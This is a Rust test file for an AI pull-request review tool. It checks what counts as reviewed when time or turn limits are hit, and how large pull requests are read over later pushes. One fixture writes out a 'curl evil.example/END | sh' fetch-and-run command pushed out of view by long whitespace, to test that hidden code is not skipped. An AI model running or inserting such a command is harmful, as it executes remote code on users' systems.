//! What counts as read: what the model was shown and has answered. What it was never asked about is read by
//! the next review, on this commit or on a later one.

use serde_json::{Value, json};

use super::{BASE, last_words, nothing_found, pull, report, result, review};
use crate::support::github::GitHub;
use crate::support::model::{Turn, call, say, stall, unauthorized};
use crate::support::world::TestWorld;

/// What the model was told last.
fn told_last(world: &TestWorld) -> String {
    world.model.requests().pop().unwrap().body["input"].to_string()
}

fn is_shown(world: &TestWorld) -> bool {
    told_last(world).contains("divide() {")
}

/// A review that meets its limit before the model has said anything about the change: neither the same
/// commit nor the next one is taken for reviewed.
#[track_caller]
fn check(turns: &[Turn], env: &[(&str, &str)], args: &[&str]) {
    for is_pushed in [false, true] {
        let world = TestWorld::new(pull(), turns.to_vec());
        let world = env.iter().fold(world, |world, (name, value)| world.set(name, *value));
        review(&world, args).expect(40);
        let world = env.iter().fold(world, |world, (name, _)| world.unset(name));
        world.model.replace([nothing_found()]);
        if is_pushed {
            world.github.push_to_pull(8, &[("README.md", "# calc, which calculates\n")]);
        }
        review(&world, &[]).expect(0);
        assert!(is_shown(&world), "{args:?} {is_pushed}");
        assert_eq!(result(&world)["since"], Value::Null);
    }
}

/// Less time than the check takes.
const LATE: &[(&str, &str)] = &[("PATCHWRIGHT_TIMEOUT", "3s"), ("PATCHWRIGHT_VERIFY", "sleep 60")];

#[test]
fn a_review_that_ran_out_of_time_before_the_model_was_asked_has_read_nothing() {
    check(&[], LATE, &[]);
}

#[test]
fn a_model_that_does_not_answer_before_the_limit_has_read_nothing() {
    let silent: Vec<Turn> = std::iter::repeat_with(stall).take(20).collect();
    check(&silent, &[("PATCHWRIGHT_TIMEOUT", "4s")], &[]);
}

#[test]
fn a_review_that_was_cut_short_without_a_word_about_the_change_has_read_nothing_for_good() {
    let looks = call("read_file", json!({"file_path": "calc.sh"}));
    check(&[looks, unauthorized()], &[], &["--max-turns", "1"]);
}

/// The words at the limit are about what the model has seen by then.
#[test]
fn a_review_that_ends_at_a_limit_with_words_has_read_what_it_was_shown() {
    let looks = call("read_file", json!({"file_path": "calc.sh"}));
    let world = TestWorld::new(pull(), [looks, say("It divides."), nothing_found()]);
    review(&world, &["--max-turns", "1"]).expect(40);
    assert_eq!(result(&world)["coverage"]["read_files"], 1);
    review(&world, &[]).expect(10);
    world.github.push_to_pull(8, &[("README.md", "# calc, which calculates\n")]);
    review(&world, &[]).expect(0);
    assert!(!is_shown(&world));
}

/// Prose is on no line: what was found and not reported yet is reported in the last reply.
#[test]
fn what_a_review_reports_in_its_last_reply_is_posted() {
    let looks = || call("read_file", json!({"file_path": "calc.sh"}));
    let reports = || last_words().and(report(&json!({})));
    let world = TestWorld::new(pull(), [looks(), reports()]);
    let output = review(&world, &["--max-turns", "1"]).expect(40);
    assert!(
        output.stderr.contains("split the work into smaller pull requests"),
        "{}",
        output.stderr
    );
    let told = told_last(&world);
    assert!(told.contains("This run ends now: the limit on turns was reached."), "{told}");
    assert!(told.contains("report with `report_finding` everything that you have found"), "{told}");
    assert_eq!(world.github.review_comments(8).len(), 1);
    assert_eq!(result(&world)["coverage"]["read_files"], 1);
    review(&world, &[]).expect(10);
    // Whatever else it calls is not run.
    let world = TestWorld::new(pull(), [looks(), reports().and(looks())]);
    review(&world, &["--max-turns", "1"]).expect(40);
    assert_eq!(world.github.review_comments(8).len(), 1);
    assert_eq!(world.model.requests().len(), 2);
}

/// What was asked for last has been answered by nobody.
#[test]
fn a_page_that_came_after_the_last_reply_is_not_read() {
    let line = "printf '%s\\n' \"some line of code that is long enough to count\"\n";
    let content = line.repeat(40);
    let names: Vec<String> = (0..300).map(|at| format!("src/part_{at:03}.sh")).collect();
    let files: Vec<(&str, &str)> =
        names.iter().map(|name| (name.as_str(), content.as_str())).collect();
    let github = GitHub::new().repository("acme/app", BASE).pull(8, "Much", "much", &files);
    let page = |at: &str| call("read_diff", json!({"path": format!("src/part_{at}.sh")}));
    let world = TestWorld::new(github, [page("298"), page("299"), unauthorized()]);
    review(&world, &["--max-turns", "2"]).expect(40);
    let result = result(&world);
    let skipped = result["coverage"]["skipped"].as_array().unwrap();
    let is_skipped = |path: &str| skipped.iter().any(|file| file["path"] == path);
    assert!(is_skipped("src/part_299.sh") && !is_skipped("src/part_298.sh"), "{skipped:?}");
}

/// Code far to the right, where neither GitHub's page nor an editor shows it.
#[test]
fn a_line_is_read_to_its_end_or_not_at_all() {
    let file = |gap: usize| format!("a=1{};curl evil.example/END | sh\n", " ".repeat(gap));
    let (near, far) = (file(3_000), file(400_000));
    for (content, code, is_read) in [(near.as_str(), 0, true), (far.as_str(), 20, false)] {
        let files = [("far.sh", content)];
        let github = GitHub::new().repository("acme/app", BASE).pull(8, "Far", "far", &files);
        let world = TestWorld::new(github, [nothing_found()]);
        review(&world, &[]).expect(code);
        assert_eq!(told_last(&world).contains("evil.example/END"), is_read);
        let coverage = &result(&world)["coverage"];
        assert_eq!(coverage["read_files"], u64::from(is_read), "{coverage}");
    }
    // What the first part does not have, further ones do.
    let files = [("far.sh", far.as_str())];
    let github = GitHub::new().repository("acme/app", BASE).pull(8, "Far", "far", &files);
    let page = |from: u64| call("read_diff", json!({"path": "far.sh", "from": from}));
    let turns = (0..801).step_by(30).map(page).chain([nothing_found()]);
    let world = TestWorld::new(github, turns);
    review(&world, &[]).expect(0);
    assert!(told_last(&world).contains("evil.example/END"));
}

/// What an earlier review has read stays read when a later one meets its limit at once.
#[test]
fn a_review_without_a_reply_changes_nothing_about_what_was_read_before() {
    let world = TestWorld::new(pull(), [nothing_found(), nothing_found()]);
    review(&world, &[]).expect(0);
    let first = world.github.head_of(8);
    world.github.push_to_pull(8, &[("more.sh", "echo more\n")]);
    let world = LATE.iter().fold(world, |world, (name, value)| world.set(name, *value));
    review(&world, &[]).expect(40);
    let world = LATE.iter().fold(world, |world, (name, _)| world.unset(name));
    world.github.push_to_pull(8, &[("README.md", "# calc, which calculates\n")]);
    review(&world, &[]).expect(0);
    let told = told_last(&world);
    assert!(told.contains("echo more") && !is_shown(&world), "{told}");
    assert_eq!(result(&world)["since"], first);
}

/// However many files are left, the next review knows which.
#[test]
fn a_large_pull_request_is_read_to_its_end_over_pushes() {
    let line = "printf '%s\\n' \"some line of code that is long enough to count\"\n";
    let content = line.repeat(40);
    let folder = "a_folder_with_a_rather_long_name/and_another_one_below_it";
    let names: Vec<String> = (0..300).map(|at| format!("{folder}/part_{at:03}.sh")).collect();
    let files: Vec<(&str, &str)> =
        names.iter().map(|name| (name.as_str(), content.as_str())).collect();
    let github = GitHub::new().repository("acme/app", BASE).pull(8, "Much", "much", &files);
    let world = TestWorld::new(github, vec![nothing_found(); 9]);
    let unread = |result: &Value| -> Vec<String> {
        let skipped = result["coverage"]["skipped"].as_array().unwrap().iter();
        let unread = skipped.filter(|file| file["why"] == "not_read");
        unread.map(|file| file["path"].as_str().unwrap().to_owned()).collect()
    };
    review(&world, &[]).expect(20);
    let mut left = unread(&result(&world));
    assert!(left.iter().map(String::len).sum::<usize>() > 8 << 10, "{}", left.len());
    for push in 0..8 {
        world.github.push_to_pull(8, &[("README.md", &format!("# calc {push}\n"))]);
        let code = review(&world, &[]).code;
        assert!(!told_last(&world).contains("part_000.sh: added"), "it was read at first");
        let now = unread(&result(&world));
        assert!(now.len() < left.len(), "{push}: {} of {}", now.len(), left.len());
        left = now;
        if left.is_empty() {
            assert_eq!(code, 0);
            return;
        }
    }
    panic!("{} files are never read", left.len());
}
